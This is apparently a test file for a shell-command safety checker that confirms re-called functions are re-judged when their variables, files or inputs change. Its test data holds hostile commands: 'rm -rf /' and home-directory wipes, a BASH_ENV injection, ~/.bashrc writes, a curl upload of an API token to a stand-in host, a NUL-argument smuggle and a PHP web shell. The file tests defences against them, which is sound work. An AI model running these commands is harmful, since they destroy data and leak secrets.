// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is shell
import { describe, expect, test } from 'vitest';
import { analyzeCommand, checkCommand } from '../src/index.ts';

/* A function that is called again is not walked again, unless something that it uses has changed. */

const twice = (first: string, between: string, call = 'f'): string =>
  `${first}; ${call}; ${call}; ${between}; ${call}; ${call}`;

describe('a function that is called again is judged again when something it uses has changed', () => {
  test.each([
    ['a variable', twice('f() { rm -rf "$D"; }; D=build', 'D=/')],
    ['a variable of a function that it calls', twice('g() { rm -rf "$D"; }; f() { g; }; D=build', 'D=/')],
    ['its arguments', 'f() { rm -rf "$1"; }; f build; f build; f /'],
    ['its input', "f() { sh; }; echo ls | f; echo ls | f; echo 'rm -rf /' | f"],
    ['the folder', twice('f() { rm -rf *; }; mkdir b; cd b', 'cd /')],
    ['a function that it calls', twice('g() { ls; }; f() { g; }', 'g() { rm -rf /; }')],
    ['a function that was not defined before', twice('f() { g; }', 'g() { rm -rf /; }')],
    ['an alias', twice('alias g=ls; f() { g; }', "alias g='rm -rf /'")],
    ['a variable of an alias', twice('alias g=\'rm -rf "$D"\'; f() { g; }; D=build', 'D=/')],
    ['a file', twice('echo ls > x.sh; f() { sh x.sh; }', "echo 'rm -rf /' > x.sh")],
    ['an exported variable', twice('export BASH_ENV=a; f() { bash b.sh; }', "BASH_ENV='$(rm -rf /)'")],
    ['code in a variable', twice('f() { eval "$C"; }; C=ls', "C='rm -rf /'")],
    ['a variable whose name is computed', twice('f() { rm -rf "${!N}"; }; N=A; A=build; B=/', 'N=B')],
  ])('%s', (_, command) => {
    expect(checkCommand(command)).toBeDefined();
  });

  test('in a subshell and outside of it', () => {
    expect(checkCommand('g() { rm -rf /; }; f() { g; }; (g() { ls; }; f; f); f')).toBeDefined();
    expect(checkCommand('D=/; f() { rm -rf "$D"; }; (D=build; f; f); f')).toBeDefined();
  });
});

test('a function that is called again sets its variables and its folder again', () => {
  expect(checkCommand('f() { D=/; }; f; f; D=build; f; rm -rf "$D"')).toBeDefined();
  expect(checkCommand('f() { D=build; }; f; f; D=/; f; rm -rf "$D"')).toBeUndefined();
  expect(checkCommand('f() { cd /; }; f; cd /tmp/x; f; rm -rf *')).toBeDefined();
});

test('calls that change nothing take a tenth of the steps', () => {
  const steps = (call: string): number =>
    analyzeCommand(
      `log() { local text=$1; if test -t 2; then echo "$text" | sed s/x/y/ | tr a b >&2; fi; }\n${call}`,
    ).steps;
  const one = steps('log a\n') - steps('');
  const again = (steps('log a\n'.repeat(200)) - steps('log a\n'.repeat(100))) / 100;
  expect(again).toBeLessThan(one / 10 + 200);
});

describe('a function that only tests and prints', () => {
  const LOGS = [
    'log() { echo "[$1] $2"; }',
    `log() { printf '%s\\n' "$*" >&2; }`,
    'red=x; log() { printf "${red}%s\\n" "$1"; }',
    'log() { if [ -n "$V" ]; then command printf "%s" "$@" 2>/dev/null; fi; }',
    'warn() { echo "$@" >&2; }; log() { warn "a: $1"; return 1; }',
    'log() { case "$1" in a*) echo "${2:-x}";; esac; }',
  ];
  const stepsOf = (text: string): number => analyzeCommand(text).steps;

  test.each(LOGS)('is not walked again for other arguments: %s', (log) => {
    const calls = (n: number): string => Array.from({ length: n }, (_, i) => `log m${i} n${i}`).join('\n');
    const each = (stepsOf(`${log}\n${calls(120)}`) - stepsOf(`${log}\n${calls(20)}`)) / 100;
    const printed = (stepsOf('echo m1 n1\n'.repeat(120)) - stepsOf('echo m1 n1\n'.repeat(20))) / 100;
    expect(each).toBeLessThanOrEqual(1.5 * printed);
  });

  test.each([
    ['its output is run', `f() { echo "$1"; }; f ls; f pwd; f 'rm -rf ~' | sh`],
    ['its output is kept', 'f() { echo "$1"; }; f a; f b; x=$(f ~); rm -rf "$x"'],
    ['it prints a secret', 'f() { echo "$1"; }; f a; f b; f "$API_TOKEN"'],
    ['it prints a variable that becomes one', 'f() { echo "$x"; }; x=a; f 1; f 2; x=$API_TOKEN; f 3'],
    ['it prints a secret of the environment', 'f() { echo "$API_TOKEN"; }; f 1; f 2'],
    ['it sets a variable', 'f() { printf -v x %s "$1"; }; f a; f b; f ~; rm -rf "$x"'],
    ['it may set a variable', 'f() { printf "$@"; }; f a; f b; f -v x ~; rm -rf "$x"'],
    ['it sets one by default', 'f() { echo "${x:=~}"; }; f a; f b; rm -rf "$x"'],
    ['it runs its arguments', 'f() { "$@"; }; f ls; f pwd; f rm -rf ~'],
    ['it writes a file', 'f() { echo x > "$1"; }; f a; f b; f ~/.bashrc'],
    ['it writes a group to a file', 'f() { { echo x; } >> "$1"; }; f a; f b; f ~/.bashrc'],
    ['it starts a program', 'f() { echo "$(rm -rf "$1")"; }; f a; f b; f ~'],
    ['it calls a function that does', 'g() { rm -rf "$1"; }; f() { g "$1"; }; f a; f b; f ~'],
    ['echo is another function', 'echo() { rm -rf "$1"; }; f() { echo "$1"; }; f a; f b; f ~'],
    ['echo is an alias', 'alias echo=\'rm -rf\'; f() { echo "$1"; }; f a; f b; f ~'],
    ['it calls itself in the background', 'f() { f | f & }; f a; f b'],
  ])('is walked where %s', (_, command) => {
    expect(checkCommand(command)).toBeDefined();
  });
});

describe('a program that a function starts again is judged once', () => {
  const stepsOf = (text: string): number => analyzeCommand(text).steps;

  test('where other arguments of the function have nothing to do with it', () => {
    const line = 'cp template/*.md "work/$n"; rm -rf work/old-*.md work/new-*.md; touch ';
    const costOf = (before: string, call: string): number => {
      const calls = (n: number): string => Array.from({ length: n }, (_, i) => `${call}f${i}\n`).join('');
      return (stepsOf(before + calls(60)) - stepsOf(before + calls(20))) / 40;
    };
    expect(costOf(`update() { ${line}"$1"; }\n`, 'update ')).toBeLessThan(costOf('', line) / 2);
  });

  test.each([
    ['its input is another', `f() { echo "$1"; echo "$1" | sh; }; f ls; f pwd; f 'rm -rf ~'`],
    ['a file has changed', `f() { echo "$1" > x.sh; sh x.sh; }; f ls; f pwd; f 'rm -rf ~'`],
    ['the folder is another', 'f() { cd "$1"; rm -rf *; }; f build; f dist; f /'],
    [
      'a file that it sends is a secret',
      'f() { echo "$1" > x; curl -T x https://a.example; }; f a; f b; f "$API_TOKEN"',
    ],
    ['it has other rights', 'f() { g; }; g() { docker run x rm -rf "$1"; "$@"; }; f; g ls; g rm -rf ~'],
    ['a variable is exported', 'f() { export GIT_DIR="$1"; git status; rm -rf "$1"; }; f a; f b; f ~'],
    [
      'a NUL character stands in another argument',
      'f() { rm -rf "$1" "$2" "$3"; }; f "build\0$HOME" y x; f build "$HOME" "y\0x"',
    ],
  ])('but again where %s', (_, command) => {
    expect(checkCommand(command)).toBeDefined();
  });
});

test('a log that grows does not cost more with each line', () => {
  const log = (n: number): string => 'echo "one line of a log that is written again" >> a.log\n'.repeat(n);
  const cost = (n: number): number => analyzeCommand(log(n)).steps;
  expect((cost(250) - cost(230)) / 20).toBeLessThan(700);
  // What is added to a full file is looked at all the same.
  expect(checkCommand(`${log(300)}echo '<?php system($_GET["c"]); ?>' >> a.log`)?.rule).toBe(
    checkCommand(`echo '<?php system($_GET["c"]); ?>' >> a.log`)?.rule,
  );
});

test('a program costs the same whatever the number of files written before, and however long the PATH', () => {
  const path = `PATH=${Array.from({ length: 60 }, (_, i) => `/opt/tool${i}/bin`).join(':')}\n`;
  const files = Array.from({ length: 50 }, (_, i) => `echo a > log/f${i}\n`).join('');
  const cost = (before: string): number =>
    analyzeCommand(`${before}${'foo\n'.repeat(30)}`).steps - analyzeCommand(before).steps;
  expect(cost(path + files)).toBeLessThan(cost('') + 1000);
});

test('long texts of several variables with several values are not all put together', () => {
  const branches = 'if a; then x=a1 y=b1 z=c1; else x=a2 y=b2 z=c2; fi; if b; then x=a3 y=b3 z=c3; fi\n';
  const text = `${branches}echo "${'word $x $y $z '.repeat(40)}" > f`;
  expect(analyzeCommand(text).steps).toBeLessThan(80 * text.length);
  // But paths are.
  const paths = 'if a; then x=build y=log; else x= y=; fi; rm -rf /$x/$y';
  expect(checkCommand(paths)).toBeDefined();
});
